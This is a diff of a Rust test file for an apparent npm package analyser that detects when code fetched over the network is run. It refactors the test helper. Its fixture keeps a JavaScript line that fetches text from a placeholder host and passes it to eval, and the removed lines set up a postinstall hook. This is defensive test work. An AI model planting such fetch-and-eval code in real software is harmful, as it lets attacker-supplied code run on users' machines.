@@ -1,27 +1,11 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::{remote_code, script};
+use customs_model::Zone;
 
 const GO: &str = "const go = () => fetch('https://a.invalid/b').then(r => r.text()).then(eval);\n";
 
 /// When what comes over the network is run, at the earliest.
 fn runs(code: &str) -> Option<Zone> {
-    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
-    let code = format!("{GO}{code}");
-    let found = analyse(&Package::new(&Tree {
-        entries: vec![
-            file("package/package.json", manifest),
-            file("package/i.js", &code),
-        ],
-        ..Tree::default()
-    }));
-    found
-        .flows
-        .iter()
-        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
-        .map(|flow| flow.zone)
-        .max()
+    remote_code(script(&format!("{GO}{code}")))
 }
 
 #[test]
